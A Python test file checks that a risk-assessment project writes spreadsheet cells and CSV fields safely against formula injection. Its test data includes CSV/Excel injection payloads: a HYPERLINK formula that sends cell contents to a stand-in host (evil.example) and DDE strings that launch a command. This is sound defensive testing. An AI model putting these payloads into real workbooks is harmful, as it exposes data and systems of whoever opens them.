"""One safe cell writer for every workbook weerbaar writes (``weerbaar.io.cells``).

Titles, owners, reasons and reasoning that start like a formula (``=``, ``+``, ``-``, ``@``, a
tab, a carriage return) are written into the example midterm review; its Excel report, its
scoring workbook and the empty scoring template are read back with openpyxl and as XML: no
``<f>`` (formula) element anywhere, every text cell a string cell, and the text as entered.
Cells store a carriage return with OOXML's ``_x000D_`` escape, which Excel shows as the
character: the text read back is compared after that unescaping. CSV fields get OWASP's quote.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime, time, timedelta, timezone
from decimal import Decimal
from pathlib import Path

import numpy
import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from tests.operator_support import OPERATOR

from weerbaar.domain import Measure, MeasureEffect
from weerbaar.domain.scores import ScoreRange
from weerbaar.errors import InvalidInput
from weerbaar.io.cells import (
    FORMULA_STARTS,
    csv_bytes,
    csv_cell,
    header_footer_text,
    put,
    unescape_text,
)
from weerbaar.io.excel import read_workbook
from weerbaar.methods.registry import get_profile
from weerbaar.services.cycles import load_examples
from weerbaar.services.excel import export_workbook, scoring_template
from weerbaar.services.reports import build_report
from weerbaar.store import Store, add, get, open_store, save, upgrade

CYCLE = "midterm-2021"
HOSTILE = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+2",
    "cr": "\r=1+3",
}
# the scenario given each text as its title, narrative, likelihood reasoning and the reason of a
# new revision that moves it; the first five have no other reason in the midterm review (their
# reasons cell of the moves is the text alone), the last two have one already
SCENARIOS = {"hyperlink": "criminal-infiltration-port", "dde": "flooding-coast",
             "tab": "earthquake-groningen", "cr": "nuclear-accident",
             "at": "avian-influenza-zoonosis", "plus": "trade-war", "minus": "hybrid-campaign"}
FORMULA = re.compile(rb"<(?:\w+:)?f[\s>/]")


def texts(ws: Worksheet) -> Iterator[tuple[str, str]]:
    """(coordinate, text as entered) of every text cell; every cell must not be a formula."""
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
            if isinstance(cell.value, str):
                assert cell.data_type == "s", f"{ws.title}!{cell.coordinate}"
                yield cell.coordinate, unescape_text(cell.value)


def no_formula_elements(content: bytes) -> list[str]:
    """The parts of an XLSX archive holding a formula element (none, hopefully)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [name for name in archive.namelist()
                if name.endswith(".xml") and FORMULA.search(archive.read(name))]


def column(ws: Worksheet, header: str) -> list[str]:
    """The texts of the column headed ``header`` (unescaped)."""
    heads = [c.value for c in ws[1]]
    index = heads.index(header)
    return [unescape_text(str(row[index])) for row in ws.iter_rows(min_row=2, values_only=True)
            if row[index] is not None]


# --- the cell writer ------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*HOSTILE.values(), "#N/A", "=", "-", "_x0041_ literal",
                                  "a\x01b", "multi\nline"])
def test_text_is_always_a_string_cell(text: str) -> None:
    wb = Workbook()
    ws = wb.active
    assert isinstance(ws, Worksheet)
    cell = put(ws, 1, 1, text)
    assert cell.data_type == "s"
    assert cell.quotePrefix == text.startswith(FORMULA_STARTS)
    buffer = io.BytesIO()
    wb.save(buffer)
    assert no_formula_elements(buffer.getvalue()) == []
    back = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert isinstance(back, Worksheet)
    assert back["A1"].data_type == "s" and unescape_text(str(back["A1"].value)) == text


def test_numbers_dates_and_empty_cells_keep_their_type() -> None:
    wb = Workbook()
    ws = wb.active
    assert isinstance(ws, Worksheet)
    aware = datetime(2021, 9, 20, 14, 30, tzinfo=timezone(timedelta(hours=2)))
    values = [3, -2.5, Decimal("1.25"), True, date(2021, 9, 20), aware, time(8, 15), None,
              float("nan"), numpy.int64(7), numpy.float64(0.5), numpy.float64("inf")]
    for column_, value in enumerate(values, start=1):
        put(ws, 1, column_, value)
    buffer = io.BytesIO()
    wb.save(buffer)
    back = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert isinstance(back, Worksheet)
    got = [c.value for c in back[1]]
    assert got[:4] == [3, -2.5, 1.25, True]
    assert [back.cell(1, c).data_type for c in (1, 2, 3)] == ["n", "n", "n"]
    assert got[4] == datetime(2021, 9, 20, 0, 0)  # openpyxl reads dates as datetimes
    assert got[5] == aware.astimezone(UTC).replace(tzinfo=None)
    assert got[6] == time(8, 15)
    assert back.cell(1, 8).value is None
    assert got[8] == "nan" and back.cell(1, 9).data_type == "s"
    assert got[9:] == [7, 0.5, "inf"]
    with pytest.raises(TypeError):
        put(ws, 2, 1, object())  # type: ignore[arg-type]


def test_text_longer_than_a_cell_is_refused_naming_the_cell() -> None:
    ws = Workbook().active
    assert isinstance(ws, Worksheet)
    ws.title = "lang"
    with pytest.raises(InvalidInput) as caught:
        put(ws, 3, 2, "x" * 40_000)
    assert caught.value.source == "lang!B3"


def test_header_and_footer_text_is_literal() -> None:
    assert header_footer_text("R&D &P\nx") == "R&&D &&P x"


def test_csv_fields_get_the_owasp_quote() -> None:
    rows = [["title", "owner", "n"], *([v, v, -3] for v in HOSTILE.values()),
            ["plain, with comma", 'say "hi"', 2.5], [None, date(2021, 9, 20), True]]
    content = csv_bytes(rows)
    assert content.startswith("\ufeff".encode())
    read = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert read[0] == ["title", "owner", "n"]
    for (_, value), row in zip(HOSTILE.items(), read[1:], strict=False):
        assert row == [f"'{value}", f"'{value}", "-3"]
        assert not row[0].startswith(FORMULA_STARTS)
    assert read[-2] == ["plain, with comma", 'say "hi"', "2.5"]
    assert read[-1] == ["", "2021-09-20", "TRUE"]
    assert csv_cell("safe") == "safe" and csv_cell(4) == 4


# --- every workbook the project writes ------------------------------------------------------


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    """The example cycles, with hostile titles, reasons, reasoning, measure titles and owners in
    the midterm review (each scenario moved, so it shows among the moves)."""
    path = tmp_path_factory.mktemp("safe-cells") / "hostile.sqlite"
    store = open_store(str(path), check_schema=False)
    upgrade(store.engine)
    load_examples(store, OPERATOR)
    for name, scenario in SCENARIOS.items():
        text = HOSTILE[name]
        stored = get(store, CYCLE, "scenario", scenario)
        likelihood = stored.item.likelihood
        assert likelihood is not None
        ev = likelihood.range.ev - 1 if likelihood.range.ev > 1 else likelihood.range.ev + 1
        moved = likelihood.model_copy(update={
            "range": ScoreRange(ev=ev, ll=ev, ul=ev), "conversions": (), "reasoning": text})
        save(store, CYCLE, stored.item.model_copy(update={
            "title": text, "narrative": text, "likelihood": moved}),
            expected_revision=stored.revision, actor="test", reason=text)
    for i, text in enumerate(HOSTILE.values()):
        add(store, CYCLE, Measure(id=f"hostile-{i}", title=text, owner=text,
                                  themes=("natural-disasters",),
                                  effect=MeasureEffect(likelihood=0.5)),
            actor="test", reason=text)
    yield store
    store.dispose()


@pytest.mark.parametrize("lang", ["nl", "en"])
def test_the_excel_report_writes_hostile_text_as_text(hostile: Store, lang: str) -> None:
    run = build_report(hostile, OPERATOR, CYCLE, formats="xlsx", kind="review", lang=lang)
    content = next(v for k, v in run.files.items() if k.endswith(".xlsx"))
    assert no_formula_elements(content) == []
    wb = load_workbook(io.BytesIO(content))
    everything = {ws.title: dict(texts(ws)) for ws in wb.worksheets}
    names = {"nl": ("Scenario’s", "Maatregelen", "Prioriteitenlijst", "Verschuivingen",
                    "Wijzigingen", "Scenario", "Maatregel", "Eigenaar", "Redenen"),
             "en": ("Scenarios", "Measures", "Priority list", "Moves", "Changes", "Scenario",
                    "Measure", "Owner", "Reasons")}[lang]
    scenarios, measures, priorities, moves, changes = (wb[n] for n in names[:5])
    wanted = set(HOSTILE.values())
    assert wanted <= set(column(scenarios, names[5]))
    assert wanted <= set(column(measures, names[6]))
    assert wanted <= set(column(measures, names[7]))
    assert wanted <= set(column(moves, names[5]))
    reasons = column(moves, names[8])
    for name, text in HOSTILE.items():
        alone = name not in ("plus", "minus")
        assert (text in reasons) if alone else any(r.endswith(f"; {text}") for r in reasons)
    assert wanted <= set(column(changes, names[8]))
    listed = " ".join(everything[priorities.title].values())
    assert any(text in listed for text in wanted)
    for sheet in wb.worksheets:  # the sheets are all there and hold no formula
        assert sheet.title in everything


def test_the_scoring_workbook_export_writes_hostile_text_as_text(hostile: Store,
                                                                 tmp_path: Path) -> None:
    content = export_workbook(hostile, OPERATOR, CYCLE, lang="en").content
    assert no_formula_elements(content) == []
    wb = load_workbook(io.BytesIO(content))
    for ws in wb.worksheets:
        list(texts(ws))
    scenarios = wb["scenarios"]
    wanted = set(HOSTILE.values())
    assert wanted <= set(column(scenarios, "title"))
    assert wanted <= set(column(scenarios, "narrative"))
    assert wanted <= set(column(scenarios, "likelihood reasoning"))
    path = tmp_path / "export.xlsx"
    path.write_bytes(content)
    ws = read_workbook(path, get_profile("gra-2019"))
    titles = {s.id: s.title for s in ws.scenarios}
    assert {name: titles[s] for name, s in SCENARIOS.items()} == HOSTILE


@pytest.mark.parametrize("profile", ["gra-2019", "rnv-2022"])
def test_the_scoring_template_holds_no_formula(profile: str) -> None:
    content = scoring_template(OPERATOR, profile)
    assert no_formula_elements(content) == []
    wb = load_workbook(io.BytesIO(content))
    for ws in wb.worksheets:
        list(texts(ws))
